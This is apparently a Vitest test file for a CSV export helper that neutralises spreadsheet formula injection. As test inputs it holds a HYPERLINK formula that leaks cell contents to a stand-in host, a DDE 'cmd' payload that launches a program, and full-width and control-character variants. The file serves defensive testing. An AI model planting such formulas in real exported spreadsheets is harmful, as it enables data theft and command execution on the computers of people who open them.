// Formula injection in spreadsheets (csv.ts): every dangerous first character
// is neutralised, the text is otherwise unchanged, numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { cellaDiTesto } from './csv';

describe('cellaDiTesto', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1;"clic")', `'=HYPERLINK("http://x.example/?"&A1;"clic")`],
    ['+SUM(1;2)', "'+SUM(1;2)"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\0=1+1', "'\0=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1+1', "'－1+1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+39 02 1234 5678', "'+39 02 1234 5678"],
    ['-', "'-"],
    ['-1e5', "'-1e5"],
  ])('%j is neutralised', (testo, atteso) => {
    expect(cellaDiTesto(testo)).toBe(atteso);
  });

  it.each([
    'Liceo Galilei',
    'Squadra "=1+1"',
    '"=1+1" tra virgolette',
    ' =1+1',
    "'=1+1",
    'A-2+3',
    'mario@example.it',
    '',
    '2026-11-26T14:00:00.000Z',
  ])('%j stays as it is', (testo) => {
    expect(cellaDiTesto(testo)).toBe(testo);
  });

  it.each(['-5', '-3,5', '-3.5', '12', '0,25', '-9223372036854775808'])(
    'the number %j stays a number',
    (numero) => {
      expect(cellaDiTesto(numero)).toBe(numero);
    },
  );
});
